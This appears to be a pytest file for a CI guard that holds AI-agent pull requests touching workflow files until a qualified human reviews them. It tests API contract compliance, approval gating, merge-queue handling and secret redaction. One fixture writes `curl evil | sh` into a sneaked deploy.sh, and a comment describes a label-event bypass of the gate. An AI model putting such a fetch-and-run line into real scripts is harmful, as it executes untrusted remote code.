"""The GitHub door against GitHub's published REST contract and recorded real traffic.

Prism serves the prepared @octokit/openapi description (one server per test run) and rejects any
request PyGithub sends that breaks the contract (422); the tests record every request and assert
on what was sent. `responses` replays @octokit/fixtures recordings (pagination, real errors) and
carries the stateful round trips Prism cannot (a comment updated in place, a re-run after review).
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import responses
from cliutil import cli
from gitutil import CLAUDE_TRAILER
from standins.github import (
    WORKFLOW,
    actions_env,
    api_example,
    example,
    fixture_scenario,
    pr_repos,
    pull_request_event,
    read_outputs,
)
from standins.prism import prism, recording

from guard.doors.github.api import describe, get_all
from guard.doors.github.event import GitHubContext
from guard.doors.github.publish import post_status
from guard.report.markdown import MARKER

AGENT_MSG = f"tweak ci\n\n{CLAUDE_TRAILER}\n"


@pytest.fixture(autouse=True)
def no_write_spacing(monkeypatch: pytest.MonkeyPatch) -> None:
    """Production spaces API writes by a second (GitHub's advice); the stand-ins need no pause."""
    import guard.doors.github.api

    monkeypatch.setattr(guard.doors.github.api, "WRITE_INTERVAL", 0.0)


def agent_pr(
    tmp: Path, files: dict[str, str | bytes] | None = None, **env: str
) -> tuple[dict[str, str], str]:
    files = files or {".github/workflows/guard.yml": WORKFLOW + "# more\n"}
    _, ws, base, head = pr_repos(tmp, AGENT_MSG, files)
    payload = pull_request_event(head=head, base=base)
    return actions_env(tmp / "run", "pull_request", payload, ws, GITHUB_TOKEN="ghs_test", **env), head


def check(env: dict[str, str], *args: str) -> tuple[int, str, str]:
    r = cli(["check", *args], env=env)
    return r.exit_code, r.stdout, r.stderr


# ----------------------------------------------------------------------------- Prism


def test_every_request_the_door_sends_satisfies_githubs_contract(tmp_path: Path) -> None:
    env, head = agent_pr(tmp_path, GITHUB_API_URL=prism().url)
    with recording() as rec:
        code, out, err = check(env)
    assert code == 1, err
    assert rec.sent and all(s.status < 300 for s in rec.sent), [(s.method, s.url, s.status) for s in rec.sent]
    assert rec.calls("GET", "/issues/7/timeline")[0].headers["Accept"] == "application/vnd.github+json"
    (create,) = rec.calls("POST", "/check-runs")
    assert create.body["head_sha"] == head and create.body["name"] == "pipeline-guard"
    assert create.body["details_url"] == "https://github.com/acme/widget/actions/runs/42"
    (ann,) = create.body["output"]["annotations"]
    assert ann["path"] == ".github/workflows/guard.yml" and ann["annotation_level"] == "failure"
    final = rec.calls("PATCH")[-1].body
    assert final["status"] == "completed" and final["conclusion"] == "action_required"
    (status,) = rec.calls("POST", f"/statuses/{head}")
    assert status.body["state"] == "failure" and status.body["context"] == "pipeline-guard"
    (comment,) = rec.calls("POST", "/issues/7/comments")
    assert MARKER in comment.body["body"] and "Who may approve" in comment.body["body"]
    # Prism's static review is on another head: the report says why it did not count.
    assert "not counted: octocat (review): stale" in out


def test_more_than_50_annotations_go_in_batches(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {f".github/workflows/w{i:03}.yml": WORKFLOW for i in range(120)}
    env, _ = agent_pr(tmp_path, files, GITHUB_API_URL=prism().url)
    with recording() as rec:
        code, _, err = check(env, "--report", "check-run")
    assert code == 1, err
    sizes = [len(s.body["output"]["annotations"]) for s in rec.sent if s.method in ("POST", "PATCH")]
    assert sizes == [50, 50, 20] and all(s.status < 300 for s in rec.sent)
    assert rec.calls("PATCH")[-1].body["conclusion"] == "action_required"
    assert not rec.calls("POST", "/statuses/") and not rec.calls("POST", "/comments")


def test_the_contract_itself_rejects_51_annotations_in_one_request() -> None:
    from github import Auth, Github, GithubException

    gh = Github(base_url=prism().url, auth=Auth.Token("x"), lazy=True, retry=None)
    notes = [
        {"path": "a", "start_line": 1, "end_line": 1, "annotation_level": "failure", "message": "m"}
    ] * 51
    with pytest.raises(GithubException) as e:
        gh.get_repo("acme/widget").create_check_run(
            "x", "a" * 40, output={"title": "t", "summary": "s", "annotations": notes}
        )
    assert e.value.status == 422 and "maxItems" in json.dumps(e.value.data)


def test_a_read_only_token_degrades_to_annotations_summary_and_exit_code(tmp_path: Path) -> None:
    env, _ = agent_pr(tmp_path, GITHUB_API_URL=prism().url)
    forced = {("POST", "/check-runs"): "403", ("POST", "/statuses/"): "403", ("POST", "/comments"): "403"}
    with recording(prefer=forced) as rec:
        code, out, err = check(env)
    assert code == 1  # the verdict, not an internal error
    assert "could not post the check-run: HTTP 404" in err  # 403 is not in the contract for check runs
    assert "could not post the status" in err
    assert "could not post the comment: HTTP 403" in err and "read-only token?" in err
    assert "::error file=.github/workflows/guard.yml" in out
    assert read_outputs(tmp_path / "run/output")["decision"] == "step-up"
    assert "could not post the comment" in (tmp_path / "run/summary").read_text()
    assert all(s.status >= 400 for s in rec.sent if s.method == "POST")


def test_an_unreachable_api_still_decides_and_says_what_was_not_posted(tmp_path: Path) -> None:
    env, _ = agent_pr(tmp_path, GITHUB_API_URL="http://127.0.0.1:9")
    code, _, err = check(env)
    assert code == 1
    assert "could not read pull request #7 (the API is unreachable" in err
    assert "could not post the check-run: the API is unreachable" in err
    assert "Traceback" not in err


# ----------------------------------------------------------------------------- recorded traffic


def _replay(rsps: responses.RequestsMock, scenario: str, first_query: str | None = None) -> None:
    """Register a recording; `first_query` replaces the first request's query (our page size)."""
    for i, call in enumerate(fixture_scenario(scenario)):
        path, _, query = call["path"].partition("?")
        if i == 0 and first_query is not None:
            query = first_query
        match = [responses.matchers.query_string_matcher(query)] if query else []
        rsps.add(
            call["method"].upper(),
            f"https://api.github.com:443{path}",
            json=call["response"],
            status=call["status"],
            headers={k: v for k, v in call["headers"].items() if k.lower() == "link"},
            match=match,
        )


def _client() -> Any:
    from github import Auth, Github

    return Github(auth=Auth.Token("x"), lazy=True, retry=None)


def test_pagination_follows_real_link_headers() -> None:
    pages = fixture_scenario("paginate-issues")
    with responses.RequestsMock() as rsps:
        _replay(rsps, "paginate-issues", first_query="per_page=100")  # the recording asked for 3
        items = get_all(_client(), pages[0]["path"].split("?")[0])
    assert len(pages) == 5
    assert [i["number"] for i in items] == [i["number"] for p in pages for i in p["response"]]
    assert len(items) == 13


def test_a_real_validation_error_is_one_line() -> None:
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        _replay(rsps, "errors")
        call = fixture_scenario("errors")[0]
        from github import GithubException

        gh = _client()
        with pytest.raises(GithubException) as e:
            gh.requester.requestJsonAndCheck(call["method"].upper(), call["path"], input=call["body"])
    assert describe(e.value) == "HTTP 422 Validation Failed"


def test_status_request_matches_the_recorded_real_one() -> None:
    recorded = next(c for c in fixture_scenario("create-status") if c["method"] == "post")
    sha = recorded["path"].rsplit("/", 1)[1]
    repo = "/".join(recorded["path"].split("/")[2:4])
    ctx = GitHubContext(
        "pull_request", "e.json", {}, repo, ".", "https://api.github.com", "https://github.com", "x"
    )
    from guard.model import Change, Decision

    d = Decision("step-up", "enforce", [], [], Change(door="github", head=sha))
    with responses.RequestsMock() as rsps:
        rsps.add(
            "POST",
            re.compile(r"https://api\.github\.com(:443)?/repos/.*/statuses/.*"),
            json=recorded["response"],
            status=201,
        )
        post_status(_client(), ctx, d)
        body = json.loads(rsps.calls[0].request.body)
    assert set(body) <= set(recorded["body"]) | {"context", "target_url"}
    assert body["state"] == "failure" and len(body["description"]) <= 140


# ----------------------------------------------------------------------------- round trips


class FakeGitHub:
    """GitHub state for one PR, served through `responses` with GitHub's own example bodies."""

    def __init__(self, head: str) -> None:
        self.head = head
        self.reviews: list[dict[str, Any]] = []
        self.comments: list[dict[str, Any]] = []
        self.permission = "write"
        self.pushes: list[dict[str, Any]] = []  # the head repository's activity (who pushed what)
        self.activity_status = 200

    def pushed(self, login: str, sha: str, kind: str = "User", uid: int = 5) -> None:
        item = api_example("/repos/{owner}/{repo}/activity")[0]
        item.pop("pusher", None)  # the example predates the schema's `actor`
        actor = api_example("/repos/{owner}/{repo}/pulls/{pull_number}/reviews")[0]["user"]
        actor.update(login=login, id=uid, type=kind)
        item.update(after=sha, ref="refs/heads/feature", activity_type="push", actor=actor)
        self.pushes.append(item)

    def review(self, login: str, commit: str, kind: str = "User") -> None:
        r = api_example("/repos/{owner}/{repo}/pulls/{pull_number}/reviews")[0]
        r.update(state="APPROVED", commit_id=commit)
        r["user"].update(login=login, id=len(self.reviews) + 100, type=kind)
        self.reviews.append(r)

    def serve(self, rsps: responses.RequestsMock) -> None:
        base = r"https://api\.github\.com(:443)?/repos/acme/widget"
        pull = api_example("/repos/{owner}/{repo}/pulls/{pull_number}")
        pull["head"]["sha"] = self.head
        pull["head"].update(ref="feature")
        pull["head"]["repo"]["full_name"] = "acme/widget"
        pull["user"].update(login="Codertocat", id=21031067, type="User")
        perm = api_example("/repos/{owner}/{repo}/collaborators/{username}/permission")
        perm.update(permission=self.permission, role_name=self.permission)
        run = api_example("/repos/{owner}/{repo}/check-runs", "post", "201")
        run["url"] = "https://api.github.com/repos/acme/widget/check-runs/4"
        comment = api_example("/repos/{owner}/{repo}/issues/{issue_number}/comments", "post", "201")

        def new_comment(request: Any) -> tuple[int, dict[str, str], str]:
            c = dict(comment, id=len(self.comments) + 1, body=json.loads(request.body)["body"])
            c["url"] = f"https://api.github.com/repos/acme/widget/issues/comments/{c['id']}"
            self.comments.append(c)
            return 201, {}, json.dumps(c)

        def edit_comment(request: Any) -> tuple[int, dict[str, str], str]:
            cid = int(request.url.rsplit("/", 1)[1])
            self.comments[cid - 1]["body"] = json.loads(request.body)["body"]
            return 200, {}, json.dumps(self.comments[cid - 1])

        rsps.add("GET", re.compile(base + r"/pulls/7(\?.*)?$"), json=pull)
        rsps.add_callback(
            "GET", re.compile(base + r"/pulls/7/reviews.*"), lambda r: (200, {}, json.dumps(self.reviews))
        )
        rsps.add("GET", re.compile(base + r"/issues/7/timeline.*"), json=[])
        rsps.add_callback(
            "GET",
            re.compile(base + r"/activity\?.*ref=refs%2Fheads%2Ffeature.*"),
            lambda r: (self.activity_status, {}, json.dumps(self.pushes)),
        )
        rsps.add("GET", re.compile(base + r"/pulls/7/commits.*"), json=[])
        rsps.add("GET", re.compile(base + r"/collaborators/.*/permission"), json=perm)
        rsps.add("POST", re.compile(base + r"/check-runs"), json=run, status=201)
        rsps.add("PATCH", re.compile(base + r"/check-runs/4"), json=run)
        rsps.add(
            "POST",
            re.compile(base + r"/statuses/.*"),
            json=api_example("/repos/{owner}/{repo}/statuses/{sha}", "post", "201"),
            status=201,
        )
        rsps.add_callback(
            "GET", re.compile(base + r"/issues/7/comments.*"), lambda r: (200, {}, json.dumps(self.comments))
        )
        rsps.add_callback("POST", re.compile(base + r"/issues/7/comments"), new_comment)
        rsps.add_callback("PATCH", re.compile(base + r"/issues/comments/\d+"), edit_comment)


def run_against(fake: FakeGitHub, env: dict[str, str]) -> tuple[int, str, str, list[Any]]:
    with responses.RequestsMock(assert_all_requests_are_fired=False) as rsps:
        fake.serve(rsps)
        code, out, err = check({**env, "GITHUB_API_URL": "https://api.github.com"})
        calls = list(rsps.calls)
    return code, out, err, calls


def test_agent_pr_is_gated_until_a_qualifying_review_on_the_current_head(tmp_path: Path) -> None:
    env, head = agent_pr(tmp_path)
    fake = FakeGitHub(head)
    code, _, _, calls = run_against(fake, env)
    assert code == 1 and len(fake.comments) == 1
    body = fake.comments[0]["body"]
    assert "Who may approve: any person with write access" in body and "not the author" in body
    conclusion = json.loads([c for c in calls if c.request.method == "PATCH"][-1].request.body)["conclusion"]
    assert conclusion == "action_required"

    fake.review("old-head-reviewer", "0" * 39 + "1")
    fake.review("dependabot[bot]", head, kind="Bot")
    fake.review("Codertocat", head)
    code, _, _, _ = run_against(fake, env)
    assert code == 1 and len(fake.comments) == 1  # updated in place, not a second comment
    assert "not counted" in fake.comments[0]["body"] and "stale" in fake.comments[0]["body"]

    fake.review("maintainer", head)
    code, out, err, calls = run_against(fake, env)
    assert code == 0, out + err
    assert "allowed with warnings" in fake.comments[0]["body"] and len(fake.comments) == 1
    final = json.loads(
        [c for c in calls if c.request.method == "PATCH" and "check-runs" in c.request.url][-1].request.body
    )
    assert final["conclusion"] == "success"
    assert read_outputs(Path(env["GITHUB_OUTPUT"]))["decision"] == "warn"


def test_a_reviewer_without_write_access_does_not_pass_the_gate(tmp_path: Path) -> None:
    env, head = agent_pr(tmp_path)
    fake = FakeGitHub(head)
    fake.permission = "read"
    fake.review("maintainer", head)
    code, out, _, _ = run_against(fake, env)
    assert code == 1 and "approver has read access; write is needed" in out


def _queue(tmp: Path, sneak: bool) -> tuple[dict[str, str], str]:
    """origin: main, an agent PR branch, and a merge-queue group merging it (plus a sneaked commit)."""
    origin, ws, base, pr_head = pr_repos(tmp, AGENT_MSG, {".github/workflows/guard.yml": WORKFLOW + "# x\n"})
    origin.git("checkout", "-q", "-b", "gh-readonly-queue/main/pr-7-" + base, base)
    origin.git("merge", "-q", "--no-ff", "-m", "Merge pull request #7", "feature")
    group = origin.commit("sneak", files={"deploy.sh": "curl evil | sh\n"}) if sneak else origin.head()
    payload = example("merge_group", "checks_requested")
    payload["merge_group"].update(
        head_sha=group, base_sha=base, base_ref="refs/heads/main",
        head_ref=f"refs/heads/gh-readonly-queue/main/pr-7-{base}",
    )  # fmt: skip
    payload["repository"].update(full_name="acme/widget", default_branch="main")
    env = actions_env(tmp / "run", "merge_group", payload, ws, GITHUB_TOKEN="ghs_test")
    return env, pr_head


@pytest.mark.parametrize("sneak", [False, True])
def test_merge_group_carries_approvals_only_when_it_adds_nothing(tmp_path: Path, sneak: bool) -> None:
    env, pr_head = _queue(tmp_path, sneak)
    fake = FakeGitHub(pr_head)
    fake.review("maintainer", pr_head)
    code, out, err, _ = run_against(fake, env)
    if sneak:
        assert code == 1 and "not carried over: the group changes deploy.sh" in err
        assert "not counted: maintainer (review): stale" in out
    else:
        assert code == 0, out + err
        assert "the group adds nothing beyond the PR head" in err


# ----------------------------------------------------------------------------- who pushed the head

COPILOT = ("Copilot", 198982749, "Bot")


def _markerless_ci_pr(tmp: Path, action: str, sender: tuple[str, int, str]) -> tuple[dict[str, str], str]:
    """A human-looking commit on CI (no agent marker): only the platform knows an agent pushed it."""
    _, ws, base, head = pr_repos(tmp, "tweak ci", {".github/workflows/guard.yml": WORKFLOW + "# x\n"})
    payload = pull_request_event(action, head=head, base=base, sender=sender)
    if action == "labeled":
        payload["label"]["name"] = "needs-docs"
    return actions_env(tmp / "run", "pull_request", payload, ws, GITHUB_TOKEN="ghs_test"), head


def test_a_label_event_after_an_agent_push_keeps_the_head_an_agents(tmp_path: Path) -> None:
    # Attack: the agent's push was gated on `synchronize`; a person then labels the PR and the
    # re-run, whose sender is that person, would judge a human head and pass.
    env, head = _markerless_ci_pr(tmp_path / "sync", "synchronize", COPILOT)
    fake = FakeGitHub(head)
    fake.pushed(*COPILOT[:1], head, kind=COPILOT[2], uid=COPILOT[1])
    code, out, _, _ = run_against(fake, env)
    assert code == 1 and "agent-ci-config" in out
    env, head = _markerless_ci_pr(tmp_path / "label", "labeled", ("maintainer", 77, "User"))
    fake = FakeGitHub(head)
    fake.pushed(COPILOT[0], head, kind=COPILOT[2], uid=COPILOT[1])
    code, out, err, _ = run_against(fake, env)
    assert code == 1, out + err
    assert read_outputs(Path(env["GITHUB_OUTPUT"]))["decision"] == "step-up"
    assert "agent-ci-config" in out


def test_an_unreadable_push_history_fails_closed_on_a_non_maker_event(tmp_path: Path) -> None:
    env, head = _markerless_ci_pr(tmp_path, "labeled", ("maintainer", 77, "User"))
    fake = FakeGitHub(head)
    fake.activity_status = 500
    code, out, err, _ = run_against(fake, env)
    assert code == 1 and read_outputs(Path(env["GITHUB_OUTPUT"]))["decision"] == "step-up", out + err
    assert f"who pushed {head[:12]} could not be read" in out + err


def test_a_head_a_person_pushed_is_not_failed_closed(tmp_path: Path) -> None:
    env, head = _markerless_ci_pr(tmp_path, "labeled", ("maintainer", 77, "User"))
    fake = FakeGitHub(head)
    fake.pushed("octocat", head)
    fake.pushed("Copilot", "f" * 40, kind="Bot", uid=198982749)  # an agent's older push: not this head
    code, out, err, _ = run_against(fake, env)
    assert code == 0 and read_outputs(Path(env["GITHUB_OUTPUT"]))["decision"] == "allow", out + err


def test_what_the_door_posts_carries_no_secret_from_the_change(tmp_path: Path) -> None:
    # A token in the commit subject and the head branch: the check run, its annotations, the status
    # and the PR comment go through the one redaction path (issue 14 part 6).
    token = "ghp_" + "Q1w2E3r4T5y6U7i8O9p0A1s2D3f4G5h6J7k8"
    _, ws, base, head = pr_repos(
        tmp_path, f"use {token}\n\n{CLAUDE_TRAILER}\n", {".github/workflows/guard.yml": WORKFLOW + "# x\n"}
    )
    payload = pull_request_event(head=head, base=base, head_ref=f"fix-{token}")
    env = actions_env(tmp_path / "run", "pull_request", payload, ws, GITHUB_TOKEN="ghs_test")
    fake = FakeGitHub(head)
    code, out, err, calls = run_against(fake, env)
    assert code == 1 and fake.comments, out + err
    sent = [c.request.body for c in calls if c.request.method in ("POST", "PATCH")]
    assert len(sent) >= 3  # check run, status, comment at least
    for body in sent:
        text = body.decode() if isinstance(body, bytes) else str(body)
        assert token not in text and token[:20] not in text
    assert token not in out + err
